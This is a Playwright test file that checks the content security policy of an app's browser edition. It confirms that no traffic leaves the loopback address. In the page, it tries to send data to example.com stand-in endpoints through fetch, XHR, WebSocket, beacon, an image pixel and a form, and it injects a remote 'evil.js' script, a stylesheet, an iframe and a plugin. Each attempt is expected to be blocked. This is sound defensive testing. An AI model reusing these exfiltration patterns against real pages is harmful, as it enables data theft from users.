/**
 * Network and navigation posture of the browser edition, under the same content security
 * policy the Electron shell sends (`electron/security/content-security-policy.ts`).
 * The inline-script case is covered in shell.spec.ts ("blocks an injected inline script under
 * its content security policy") and is not repeated here.
 */
import { expect, test, type Page } from '@playwright/test';
import { openApp, watchPageErrors } from '../helpers/app';

const zhViews = ['数据', '情景', '对比', '目标', '敏感性', '导出'];
const enViews = ['Data', 'Scenarios', 'Compare', 'Targets', 'Sensitivity', 'Export'];

/** A URL the app may load: its own server on the loopback address, or data held in the page itself. */
function staysOnThisMachine(url: string): boolean {
  const parsed = new URL(url);
  if (parsed.protocol === 'data:' || parsed.protocol === 'blob:') return true;
  return (parsed.protocol === 'http:' || parsed.protocol === 'ws:') && parsed.hostname === '127.0.0.1';
}

/** Records calls to window.open before any app script runs (init scripts are not subject to CSP). */
async function countWindowOpens(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const calls: string[] = [];
    const original = window.open.bind(window);
    (window as unknown as { __windowOpenCalls: string[] }).__windowOpenCalls = calls;
    window.open = (url?: string | URL, ...rest: [string?, string?]) => {
      calls.push(String(url));
      return original(url, ...rest);
    };
  });
}

/** Every link the page shows right now, with where it leads and whether it opens a new window. */
async function linksOnPage(page: Page): Promise<{ href: string; target: string }[]> {
  return page
    .locator('a[href]')
    .evaluateAll((anchors) => anchors.map((a) => ({ href: (a as HTMLAnchorElement).href, target: (a as HTMLAnchorElement).target })));
}

test.describe('security of the browser edition', () => {
  test.use({ locale: 'zh-CN' });

  test('no request leaves 127.0.0.1 while the user works through every view in both languages and themes', async ({ page, context }) => {
    const requests: string[] = [];
    // The context sees requests of the page, its workers and any popup.
    context.on('request', (request) => requests.push(request.url()));
    const popups: string[] = [];
    page.on('popup', (popup) => popups.push(popup.url()));
    const webSockets: string[] = [];
    page.on('websocket', (socket) => webSockets.push(socket.url()));
    await countWindowOpens(page);
    const problems = watchPageErrors(page);
    const links: { href: string; target: string }[] = [];

    await openApp(page);
    const visitEveryView = async (names: string[], navLabel: string) => {
      const nav = page.getByRole('navigation', { name: navLabel });
      for (const name of names) {
        await nav.getByRole('button', { name: new RegExp(`^${name}`) }).click();
        await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
        // Views that start work in the background (charts, Monte Carlo workers) get to finish it.
        await page.waitForLoadState('networkidle');
        links.push(...(await linksOnPage(page)));
      }
      for (let n = 1; n <= names.length; n++) {
        await page.keyboard.press(`Alt+${n}`);
        await page.waitForLoadState('networkidle');
      }
    };

    await visitEveryView(zhViews, '视图');
    await page.getByTestId('theme-select').selectOption('dark');
    await visitEveryView(zhViews, '视图');
    await page.getByTestId('language-select').selectOption('en');
    await visitEveryView(enViews, 'Views');
    await page.getByTestId('theme-select').selectOption('light');
    await page.reload();
    await page.locator('.shell').waitFor();
    await page.waitForLoadState('networkidle');

    // The recorder worked: the app's own page and bundle were seen.
    expect(requests.some((url) => /^http:\/\/127\.0\.0\.1:\d+\/assets\/.+\.js$/.test(url))).toBe(true);
    expect(requests.filter((url) => !staysOnThisMachine(url))).toEqual([]);
    expect(webSockets).toEqual([]);
    expect(popups).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __windowOpenCalls: string[] }).__windowOpenCalls)).toEqual([]);
    // No view offers a link off the machine or into a new window.
    expect(links.filter((link) => !staysOnThisMachine(link.href) || link.target === '_blank')).toEqual([]);
    expect(problems).toEqual([]);
  });

  test('a script in the page cannot send data to another host: the policy refuses fetch, XHR, WebSocket, beacon, image and form', async ({ page }) => {
    // Chromium reports a request the policy stops as started and then failed; none may be answered.
    const answeredOffMachine: string[] = [];
    page.on('response', (response) => {
      if (!staysOnThisMachine(response.url())) answeredOffMachine.push(response.url());
    });
    const failedOffMachine: string[] = [];
    page.on('requestfailed', (request) => {
      if (!staysOnThisMachine(request.url())) failedOffMachine.push(`${request.url()} ${request.failure()?.errorText ?? ''}`);
    });
    await openApp(page);
    // The machines these tests run on are offline, so a failed fetch alone proves nothing:
    // each attempt must also raise a CSP violation naming the directive that stopped it.
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));

      const fetchResult = await fetch('https://example.com/collect', { method: 'POST', body: 'figures' }).then(
        () => 'answered',
        (error: unknown) => (error instanceof TypeError ? 'refused' : 'other error'),
      );

      const xhrResult = await new Promise<string>((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => resolve('answered');
        xhr.onerror = () => resolve('refused');
        try {
          xhr.open('GET', 'https://example.com/x');
          xhr.send();
        } catch {
          resolve('refused');
        }
      });

      const socketResult = await new Promise<string>((resolve) => {
        try {
          const socket = new WebSocket('wss://example.com/socket');
          socket.onopen = () => resolve('answered');
          socket.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });

      let beaconQueued: boolean;
      try {
        beaconQueued = navigator.sendBeacon('https://example.com/beacon', 'figures');
      } catch {
        beaconQueued = false;
      }

      const imageResult = await new Promise<string>((resolve) => {
        const image = new Image();
        image.onload = () => resolve('answered');
        image.onerror = () => resolve('refused');
        image.src = 'https://example.com/pixel.png?figures=1';
      });

      const form = document.createElement('form');
      form.action = 'https://example.com/submit';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      form.remove();

      // Violation reports are queued as tasks; let them all arrive.
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { fetchResult, xhrResult, socketResult, beaconQueued, imageResult, violations, stillHere: location.href };
    });

    expect(outcome.fetchResult).toBe('refused');
    expect(outcome.xhrResult).toBe('refused');
    expect(outcome.socketResult).toBe('refused');
    expect(outcome.imageResult).toBe('refused');
    const directives = outcome.violations.map((v) => v.split(' ')[0]);
    expect(directives.filter((d) => d === 'connect-src').length).toBeGreaterThanOrEqual(4); // fetch, XHR, WebSocket, beacon
    expect(directives).toContain('img-src');
    expect(directives).toContain('form-action');
    expect(outcome.violations.every((v) => v.includes('example.com') || v.startsWith('form-action'))).toBe(true);
    // The form did not take the page away.
    expect(outcome.stillHere).toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);
    expect(answeredOffMachine).toEqual([]);
    expect(failedOffMachine.every((line) => line.endsWith(' csp'))).toBe(true);
  });

  test('the page cannot load a script, style, frame or plugin from another host', async ({ page }) => {
    await openApp(page);
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.src = 'https://example.com/evil.js';
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = 'https://example.com/evil.css';
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      const plugin = document.createElement('object');
      plugin.data = 'https://example.com/evil.swf';
      document.body.append(script, style, frame, plugin);
      // Each refusal is reported when the element tries to load; on a busy machine that can take a while.
      const expected = ['script-src-elem', 'style-src-elem', 'frame-src', 'object-src'];
      for (let waited = 0; waited < 5000 && !expected.every((directive) => seen.includes(directive)); waited += 50)
        await new Promise((resolve) => setTimeout(resolve, 50));
      for (const element of [script, style, frame, plugin]) element.remove();
      return seen;
    });
    expect(violations).toEqual(expect.arrayContaining(['script-src-elem', 'style-src-elem', 'frame-src', 'object-src']));
  });
});
